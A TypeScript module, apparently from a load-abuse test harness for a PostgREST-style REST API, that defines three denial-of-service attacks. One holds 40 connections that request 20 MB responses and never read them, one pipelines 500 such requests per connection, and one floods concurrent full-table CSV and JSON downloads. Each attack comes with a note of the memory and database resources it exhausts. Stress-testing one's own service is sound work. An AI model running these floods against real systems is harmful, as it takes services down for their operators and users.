/** Requests with large responses. */
import type { Attack } from '../../attacker/attack.ts';
import { holdConnections, rawHead } from '../../attacker/connections.ts';
import { apiHeaders, flood } from '../../attacker/http.ts';

const PATH = '/rest/v1/abuse_big?select=*';

/** Requests large responses without reading them. */
export const unreadResponses: Attack = {
  name: 'data/unread-answers',
  description: '40 connections ask for 20 MB each and read nothing',
  cost: '20 MB of memory per connection, and connections to the database that wait for the reader',
  run: (context) =>
    holdConnections(context, {
      connections: 40,
      reads: false,
      first: () => `${rawHead('GET', PATH, { apikey: context.anonKey })}\r\n`,
    }),
};

/** Pipelines requests without reading the responses. */
export const pipelined: Attack = {
  name: 'data/pipelined',
  description: '20 connections with 500 pipelined requests of 20 MB each that read nothing',
  cost: 'memory of answers that wait behind each other',
  run: (context) =>
    holdConnections(context, {
      connections: 20,
      reads: false,
      first: () => `${rawHead('GET', PATH, { apikey: context.anonKey })}\r\n`.repeat(500),
    }),
};

/** Requests large responses and reads them. */
export const largeResponses: Attack = {
  name: 'data/large-answers',
  description: 'all 20 MB of a table as CSV and JSON, 10 at once',
  cost: 'PostgreSQL, event loop and memory: 20 MB per request',
  run: (context) =>
    flood(context, {
      sockets: 10,
      request: (index) => ({
        path: PATH,
        headers: { ...apiHeaders(context), accept: index % 2 === 0 ? 'text/csv' : 'application/json' },
      }),
    }),
};
